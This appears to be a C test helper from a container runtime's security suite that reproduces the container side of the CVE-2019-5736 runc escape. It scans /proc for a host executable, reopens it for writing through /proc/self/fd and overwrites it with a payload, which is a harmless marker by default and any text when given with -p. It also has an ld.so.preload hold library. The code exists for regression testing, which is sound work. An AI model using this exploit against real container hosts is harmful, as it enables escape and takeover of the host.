/* exe_overwrite: the container side of a CVE-2019-5736 attack, for the
 * security tests (built static by the test, since it runs inside the busybox
 * rootfs).
 *
 *   exe_overwrite [-t SECONDS] [-p PAYLOAD]
 *
 * Watches every other process it can see in /proc until one has an
 * executable that it may open (a process that is not dumpable, such as a
 * runtime's init, refuses that: such processes are polled tightly, through
 * an fd of their /proc directory, until they exec). It keeps an O_PATH fd of
 * that executable, which pins the file whatever happens to the process, and
 * then tries to reopen it for writing through /proc/self/fd, retrying while
 * the kernel says the file is busy (ETXTBSY: it is still being executed).
 * When the open succeeds it writes PAYLOAD (default: a short shell script)
 * over the start of the file. Reports on stdout, one line each:
 *     grabbed pid=<pid> exe=<what the fd's link names>
 *     write-open: ok | write-open: <error>
 *     wrote <n> bytes | write: <error>
 * Exit status: 0 the executable was overwritten, 3 it could not be opened for
 * writing or not written, 4 no executable was grabbed in time, 5 it stayed
 * busy until the time limit, 6 a watched process ended before its
 * executable could be opened ("missed pid=N"), 2 bad usage.
 *
 * Built with -shared -fPIC -DEXE_OVERWRITE_HOLD instead, it is the library
 * the attacker's image preloads (/etc/ld.so.preload) into every dynamic
 * program that runs from it, the runtime's binary included, as the original
 * exploit ran its code in runc through a library of the image: it only
 * holds the program for a second, so that the grabber cannot miss it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifdef EXE_OVERWRITE_HOLD

__attribute__((constructor)) static void hold(void)
{
	sleep(1);
}

#else

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void pause_briefly(void)
{
	struct timespec ts = {.tv_sec = 0, .tv_nsec = 200000L};
	nanosleep(&ts, NULL);
}

/* A process whose exe we may not open yet (a runtime's init that is not
 * dumpable), watched through an fd of its /proc directory. */
struct candidate {
	pid_t pid;
	int dir;
};

#define MAX_CANDIDATES 16

/* an O_PATH fd of dir's exe when it opens and is not our own binary; -1
 * otherwise, with errno */
static int open_exe(int dir, const struct stat *self)
{
	int fd = openat(dir, "exe", O_PATH | O_CLOEXEC);
	if (fd < 0)
		return -1;
	struct stat st;
	if (fstat(fd, &st) < 0 || (st.st_dev == self->st_dev && st.st_ino == self->st_ino)) {
		close(fd);
		errno = EEXIST;
		return -1;
	}
	return fd;
}

/* one pass over /proc: an O_PATH fd of the first foreign executable that
 * opens, or -1; processes refusing it are added to the candidates */
static int scan(const struct stat *self, pid_t *pid_out, struct candidate *cand, int *ncand)
{
	DIR *proc = opendir("/proc");
	if (!proc)
		return -1;
	int found = -1;
	struct dirent *de;
	while (found < 0 && (de = readdir(proc)) != NULL) {
		char *end;
		long pid = strtol(de->d_name, &end, 10);
		if (*end || pid <= 0 || pid == (long)getpid())
			continue;
		int dir = openat(dirfd(proc), de->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (dir < 0)
			continue;
		found = open_exe(dir, self);
		if (found >= 0) {
			*pid_out = (pid_t)pid;
			close(dir);
			break;
		}
		bool known = errno == EEXIST;
		for (int i = 0; i < *ncand && !known; i++)
			known = cand[i].pid == (pid_t)pid;
		if (!known && (errno == EACCES || errno == EPERM) && *ncand < MAX_CANDIDATES) {
			cand[*ncand].pid = (pid_t)pid;
			cand[(*ncand)++].dir = dir;
			continue;
		}
		close(dir);
	}
	closedir(proc);
	return found;
}

/* polls the candidates; a candidate that is gone was missed: *missed set */
static int poll_candidates(const struct stat *self, pid_t *pid_out, struct candidate *cand,
                           int ncand, pid_t *missed)
{
	for (int i = 0; i < ncand; i++) {
		if (cand[i].dir < 0)
			continue;
		int fd = open_exe(cand[i].dir, self);
		if (fd >= 0) {
			*pid_out = cand[i].pid;
			return fd;
		}
		if (errno == ESRCH || errno == ENOENT) {
			*missed = cand[i].pid;
			close(cand[i].dir);
			cand[i].dir = -1;
		}
	}
	return -1;
}

int main(int argc, char **argv)
{
	double limit = 20;
	const char *payload = "#!/bin/sh\necho ARCA-CVE-2019-5736-OVERWRITTEN\n";
	int opt;
	while ((opt = getopt(argc, argv, "t:p:")) != -1) {
		switch (opt) {
		case 't':
			limit = strtod(optarg, NULL);
			break;
		case 'p':
			payload = optarg;
			break;
		default:
			fprintf(stderr, "usage: exe_overwrite [-t SECONDS] [-p PAYLOAD]\n");
			return 2;
		}
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	struct stat self;
	if (stat("/proc/self/exe", &self) < 0) {
		printf("stat /proc/self/exe: %s\n", strerror(errno));
		return 4;
	}
	double deadline = now() + limit;
	pid_t pid = 0, missed = 0;
	int exe = -1;
	struct candidate cand[MAX_CANDIDATES];
	int ncand = 0;
	for (unsigned long round = 0; exe < 0 && missed == 0; round++) {
		if (round % 4096 == 0) {
			if (now() >= deadline)
				break;
			exe = scan(&self, &pid, cand, &ncand);
		}
		if (exe < 0)
			exe = poll_candidates(&self, &pid, cand, ncand, &missed);
	}
	if (exe < 0) {
		if (missed)
			printf("missed pid=%d (it ended before its exe could be opened)\n",
			       (int)missed);
		else
			printf("nothing grabbed\n");
		return missed ? 6 : 4;
	}
	char link[64], target[4096];
	snprintf(link, sizeof link, "/proc/self/fd/%d", exe);
	ssize_t n = readlink(link, target, sizeof target - 1);
	target[n > 0 ? n : 0] = '\0';
	printf("grabbed pid=%d exe=%s\n", (int)pid, target);

	int wfd = -1;
	while (now() < deadline) {
		wfd = open(link, O_WRONLY | O_CLOEXEC);
		if (wfd >= 0 || errno != ETXTBSY)
			break;
		pause_briefly();
	}
	if (wfd < 0) {
		printf("write-open: %s\n", strerror(errno));
		return errno == ETXTBSY ? 5 : 3;
	}
	printf("write-open: ok\n");
	ssize_t w = pwrite(wfd, payload, strlen(payload), 0);
	if (w < 0) {
		printf("write: %s\n", strerror(errno));
		return 3;
	}
	printf("wrote %zd bytes\n", w);
	close(wfd);
	return 0;
}

#endif
